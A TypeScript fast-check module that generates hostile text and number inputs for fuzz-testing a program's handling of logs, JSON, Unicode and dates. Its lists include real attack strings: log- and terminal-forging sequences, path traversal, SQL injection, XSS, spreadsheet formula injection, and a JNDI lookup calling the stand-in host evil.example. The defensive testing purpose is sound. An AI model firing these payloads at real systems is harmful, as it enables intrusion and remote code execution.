import fc from 'fast-check';

/** Characters that forge a log line, a terminal command or a second field, where they are let through. */
export const FORGERIES: Readonly<Record<string, string>> = {
  'a line feed': '\n{"level":"INFO","message":"request answered","status":200}',
  'a carriage return': '\r{"level":"INFO","message":"forged"}',
  'empty lines': '\r\n\r\n{"forged":true}',
  'a terminal sequence': '\u001b[2K\u001b[1A\u001b]0;owned\u0007',
  'an eight-bit terminal sequence': '\u009b2K\u009d0;owned\u009c',
  'a line separator': '\u2028{"forged":true}',
  'a paragraph separator': '\u2029{"forged":true}',
  'a next-line character': '\u0085{"forged":true}',
  backspaces: '\b\b\b\b forged',
  'a zero': '\0forged',
  'a quote': '","message":"forged","x":"',
  'a quote behind a backslash': '\\","forged":true,"x":"',
};

const ODD_TEXTS: readonly string[] = [
  ...Object.values(FORGERIES),
  '',
  ' ',
  '\0',
  '\uFEFF',
  '\uD800',
  '\uDC00',
  'a\uDFFFb',
  '\u202Eevil',
  '\u200B',
  '１２',
  '٣',
  'İ',
  '\u212A',
  'ﬀ',
  'e\u0301',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'toJSON',
  'null',
  'undefined',
  'NaN',
  'true',
  '1e400',
  '-1e400',
  '-0',
  '0x10',
  '9007199254740993',
  '../../etc/passwd',
  '..%2f..%2f',
  '%00',
  '%',
  '%zz',
  '%25%30%30',
  '%c0%af',
  "' OR 1=1 --",
  '%{jndi:ldap://evil.example/x}',
  '{{constructor}}',
  '<script>alert(1)</script>',
  '=cmd|calc',
  'WORKSPACE',
  'WORKSPACE#',
  'MEMBER#',
  'SITE#',
  'SESSION#ses_',
  'VERSION#',
  'KEY',
  '0000-00-00',
  '0000-01-01T00:00:00Z',
  '9999-12-31',
  '9999-12-31T23:59:59.999999999Z',
  '2026-02-30T00:00:00Z',
  '2016-12-31T23:59:60Z',
  '2026-11-23T12:00:00+14:00',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  'a'.repeat(300),
  'a'.repeat(10_000),
  '😀'.repeat(600),
  '\u0301'.repeat(1_000),
];

/** Text in which half a surrogate pair may stand. */
const codeUnits = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 12 })
  .map((units) => String.fromCharCode(...units));

/** Any text, mostly of kinds that programs often forget. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...ODD_TEXTS) },
  // What most often comes through where a bound is missing.
  {
    weight: 2,
    arbitrary: fc.constantFrom('\uD800', 'a\uDFFFb', '\0', '\r\n', '__proto__', '😀'.repeat(600)),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: codeUnits },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...ODD_TEXTS.filter((text) => text.length < 100)), fc.string({ maxLength: 10 }))
      .map(([odd, text]) => `${text}${odd}${text}`),
  },
);

/** Numbers as JSON may write them; some are beyond what a double holds. */
export const hostileNumber: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '0',
    '-0',
    '-1',
    '1.5',
    '1e400',
    '-1e400',
    '1e-400',
    '9007199254740993',
    '123456789012345678901234567890',
    '1E+2',
    '0.1e1',
    '2147483648',
    '-2147483649',
    `1${'0'.repeat(400)}`,
    `0.${'0'.repeat(400)}1`,
  ),
  fc.integer().map(String),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((value) => JSON.stringify(value)),
);
